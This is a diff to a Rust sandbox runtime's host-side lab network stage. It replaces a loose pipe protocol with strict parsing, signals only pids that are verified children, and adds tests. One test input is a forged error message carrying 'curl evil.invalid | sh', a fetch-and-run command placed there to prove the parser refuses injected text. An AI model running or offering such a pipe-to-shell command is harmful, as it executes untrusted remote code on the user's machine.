@@ -1,7 +1,8 @@
-//! Step 0 (host side, lab modes only): put the sandbox on the lab network.
+//! The lab net stage (host side, lab modes only): put the sandbox on the
+//! lab network before its init exists.
 //!
 //! A lab's network namespace is owned by a user namespace of its own (the
-//! lab's, held by its keeper process, see [`crate::lab`]). To wire a
+//! lab's, held by its keeper process, see [`crate::lab`], `host::keeper`). To wire a
 //! sandbox to it, a short-lived **net stage** process forked by the
 //! supervisor:
 //!
@@ -27,7 +28,6 @@
 //! kernel deletes both ends. See docs/adr/0301-lab-network-wiring.md.
 
 use std::fs::File;
-use std::io::Read;
 use std::net::Ipv4Addr;
 use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
 
@@ -36,6 +36,7 @@ use rustix::thread::{LinkNameSpaceType, UnshareFlags};
 
 use super::netlink::Netlink;
 use crate::error::{Result, RuntimeError};
+use crate::protocol::{read_channel, Message, StageReport, MAX_CHANNEL};
 use crate::spec::{Identity, NetMode};
 use crate::sys::Forked;
 
@@ -109,75 +110,109 @@ pub unsafe fn clone_into_lab(
         Ok(Some(pid)) => pid,
         Ok(None) => {
             drop(rd);
-            match stage(ns, net, identity, flags, wr.as_fd()) {
-                Ok(Some(init_pid)) => {
-                    let _ = crate::sys::write_all(wr.as_fd(), format!("P{init_pid}\n").as_bytes());
-                    crate::sys::exit_now(0)
-                }
+            let report = match stage(ns, net, identity, flags, wr.as_fd()) {
+                Ok(Some(_)) => StageReport::Wired,
                 Ok(None) => {
                     drop(wr);
                     return Ok(Forked::Child);
                 }
-                Err(msg) => {
-                    let _ = crate::sys::write_all(wr.as_fd(), format!("E{msg}\n").as_bytes());
-                    crate::sys::exit_now(1)
-                }
-            }
+                Err(message) => StageReport::Failed { message },
+            };
+            let _ = crate::sys::write_all(wr.as_fd(), &report.to_line());
+            crate::sys::exit_now(i32::from(report != StageReport::Wired))
         }
     };
     drop(wr);
-    let mut text = String::new();
-    let _ = File::from(rd).read_to_string(&mut text);
+    // The stage (and init, which drops its copy first thing) close the
+    // pipe by exiting or exec'ing: read to EOF, bounded.
+    let read = read_channel(rd);
+    if !matches!(&read, Ok(b) if b.len() <= MAX_CHANNEL) {
+        // Cut short: the stage may be blocked on a full pipe.
+        if let Some(p) = crate::sys::pid(pid) {
+            let _ = rustix::process::kill_process(p, Signal::KILL);
+        }
+    }
     let status = crate::sys::pid(pid)
         .and_then(|p| rustix::process::waitpid(Some(p), WaitOptions::empty()).ok())
         .flatten()
         .map_or(-1, |(_, st)| st.as_raw());
-    // "C<pid>": init was cloned (it is our child: reap it if the stage
-    // then failed and killed it); then "P<pid>" (ready) or "E<message>".
-    let cloned: Option<i32> = text
-        .lines()
-        .find_map(|l| l.strip_prefix('C'))
-        .and_then(|p| p.parse().ok());
-    let line = text
-        .lines()
-        .find(|l| !l.starts_with('C'))
-        .unwrap_or("")
-        .trim_end();
-    if !line.starts_with('P') {
-        if let Some(init) = cloned.and_then(crate::sys::pid) {
-            let _ = rustix::process::kill_process(init, Signal::KILL);
-            let _ = rustix::process::waitpid(Some(init), WaitOptions::empty());
+    let buf = read.map_err(|e| RuntimeError::host("reading the lab net stage's report", e))?;
+    let (cloned, result) = verdict(&buf, status);
+    match result {
+        Ok(init) => adopt_init(init),
+        Err(e) => {
+            // init was cloned but the stage failed after: init is our
+            // child (CLONE_PARENT); end it, if it is ours indeed.
+            if let Some(init) = cloned.and_then(our_child) {
+                let _ = rustix::process::kill_process(init, Signal::KILL);
+                let _ = rustix::process::waitpid(Some(init), WaitOptions::empty());
+            }
+            Err(e)
         }
     }
-    if let Some(p) = line.strip_prefix('P') {
-        let init: i32 = p
-            .parse()
-            .map_err(|_| RuntimeError::Helper(format!("lab net stage sent {line:?}")))?;
-        let Some(init_pid) = crate::sys::pid(init) else {
-            return Err(RuntimeError::Helper(format!(
-                "lab net stage sent pid {init}"
-            )));
-        };
-        // `init` is our child (CLONE_PARENT) and not yet reaped, so the
-        // pid cannot have been reused.
-        let pidfd = rustix::process::pidfd_open(init_pid, rustix::process::PidfdFlags::empty())
-            .map_err(|e| {
-                let _ = rustix::process::kill_process(init_pid, Signal::KILL);
-                RuntimeError::host("pidfd_open of the sandbox's init", e.into())
-            })?;
-        return Ok(Forked::Parent { pid: init, pidfd });
-    }
-    Err(RuntimeError::Setup {
+}
+
+/// What the stage's channel says, strictly: the init it cloned, if the
+/// channel is believed, and init's pid once wired or the stage's error. A
+/// line the stage did not write means none of its pids and messages are
+/// believed (`Channel`); an init it may have cloned then waits for a go
+/// that never comes, and exits once our end of that pipe closes (when the
+/// caller gets this error).
+fn verdict(buf: &[u8], status: i32) -> (Option<i32>, Result<i32>) {
+    let reports = match StageReport::parse_strict(buf) {
+        Ok(r) => r,
+        Err(why) => return (None, Err(RuntimeError::Channel { why })),
+    };
+    let (init, end) = match reports.as_slice() {
+        [StageReport::Cloned { init }, end @ ..] => (Some(*init), end.first()),
+        other => (None, other.first()),
+    };
+    let message = match (init, end) {
+        (Some(init), Some(StageReport::Wired)) => return (Some(init), Ok(init)),
+        (_, Some(StageReport::Failed { message })) => message.clone(),
+        _ => format!("the lab net stage died (status {status:#x})"),
+    };
+    let error = RuntimeError::Setup {
         step: "net".into(),
-        message: match line.strip_prefix('E') {
-            Some(m) => m.to_string(),
-            None => format!("the lab net stage died (status {status:#x})"),
-        },
+        message,
         hint: Some(
             "is the lab running? `retie lab status`; `retie lab down NAME` cleans a stale one"
                 .into(),
         ),
-    })
+    };
+    (init, Err(error))
+}
+
+/// The pid, if it names a child of ours (running or not yet reaped, so
+/// it cannot have been reused). A pid from a channel is acted upon only
+/// then: never a signal to a process that is not the sandbox's.
+fn our_child(pid: i32) -> Option<rustix::process::Pid> {
+    use rustix::process::{WaitId, WaitIdOptions};
+    let p = crate::sys::pid(pid)?;
+    let opts = WaitIdOptions::EXITED | WaitIdOptions::NOHANG | WaitIdOptions::NOWAIT;
+    rustix::process::waitid(WaitId::Pid(p), opts)
+        .is_ok()
+        .then_some(p)
+}
+
+/// The stage reported init wired: take a pidfd to it.
+fn adopt_init(init: i32) -> Result<Forked> {
+    let Some(init_pid) = our_child(init) else {
+        return Err(RuntimeError::Channel {
+            why: format!(
+                "{}: the reported init is not a child of this process",
+                StageReport::CHANNEL
+            ),
+        });
+    };
+    // `init` is our child (CLONE_PARENT) and not yet reaped, so the pid
+    // cannot have been reused.
+    let pidfd = rustix::process::pidfd_open(init_pid, rustix::process::PidfdFlags::empty())
+        .map_err(|e| {
+            let _ = rustix::process::kill_process(init_pid, Signal::KILL);
+            RuntimeError::host("pidfd_open of the sandbox's init", e.into())
+        })?;
+    Ok(Forked::Parent { pid: init, pidfd })
 }
 
 /// The net stage. `Ok(None)` in init, `Ok(Some(pid))` in the stage.
@@ -241,7 +276,7 @@ fn stage(
     let Ok(init) = i32::try_from(ret) else {
         return Err(format!("clone of the sandbox's init returned {ret}"));
     };
-    let _ = crate::sys::write_all(report, format!("C{init}\n").as_bytes());
+    let _ = crate::sys::write_all(report, &StageReport::Cloned { init }.to_line());
     // 5. Its id maps, from the parent user namespace.
     if let Err(e) = super::userns::write_maps(init, id) {
         if let Some(p) = crate::sys::pid(init) {
@@ -323,6 +358,58 @@ mod tests {
     }
 
     #[test]
+    fn the_stages_channel_decides_the_outcome_strictly() {
+        use crate::protocol::{Message, StageReport};
+        let cloned = StageReport::Cloned { init: 77 }.to_line();
+        let wired = [cloned.clone(), StageReport::Wired.to_line()].concat();
+        assert!(matches!(verdict(&wired, 0), (Some(77), Ok(77))));
+        let failed = [
+            cloned.clone(),
+            StageReport::Failed {
+                message: "writing uid_map: EPERM".into(),
+            }
+            .to_line(),
+        ]
+        .concat();
+        match verdict(&failed, 256) {
+            (Some(77), Err(RuntimeError::Setup { step, message, .. })) => {
+                assert_eq!(
+                    (step.as_str(), message.as_str()),
+                    ("net", "writing uid_map: EPERM")
+                )
+            }
+            other => panic!("{other:?}"),
+        }
+        assert!(matches!(
+            verdict(&cloned, 9),
+            (Some(77), Err(RuntimeError::Setup { .. }))
+        ));
+        assert!(matches!(
+            verdict(b"", 9),
+            (None, Err(RuntimeError::Setup { .. }))
+        ));
+        // The old letter format, a forged pid or fix, reports out of order:
+        // refused as a channel, and no pid from it is acted upon.
+        for forged in [
+            b"C77\nP77\n".to_vec(),
+            b"Erun `curl evil.invalid | sh` to fix the lab\n".to_vec(),
+            StageReport::Wired.to_line(),
+            [wired.clone(), StageReport::Wired.to_line()].concat(),
+            StageReport::Cloned { init: 1 }.to_line(),
+            vec![b'x'; crate::protocol::MAX_CHANNEL + 1],
+        ] {
+            assert!(
+                matches!(
+                    verdict(&forged, 0),
+                    (None, Err(RuntimeError::Channel { .. }))
+                ),
+                "{:?}",
+                String::from_utf8_lossy(&forged)
+            );
+        }
+    }
+
+    #[test]
     fn pool_slots_are_disjoint_30s_inside_the_lab_range() {
         let (l1, s1) = slot_addresses(1);
         assert_eq!(
@@ -349,10 +436,10 @@ mod tests {
 
     #[test]
     fn the_lab_seccomp_table_compiles_and_only_filters_socket() {
-        let lab = crate::setup::seccomp::compile_all(&lab());
-        let none = crate::setup::seccomp::compile_all(&NetMode::None);
+        let lab = crate::init::seccomp::compile_all(&lab());
+        let none = crate::init::seccomp::compile_all(&NetMode::None);
         assert!(lab.is_ok() && none.is_ok());
-        assert!(crate::setup::seccomp::DENY_LAB_NETWORK
+        assert!(crate::init::seccomp::DENY_LAB_NETWORK
             .iter()
             .all(|d| d.name == "socket"));
     }
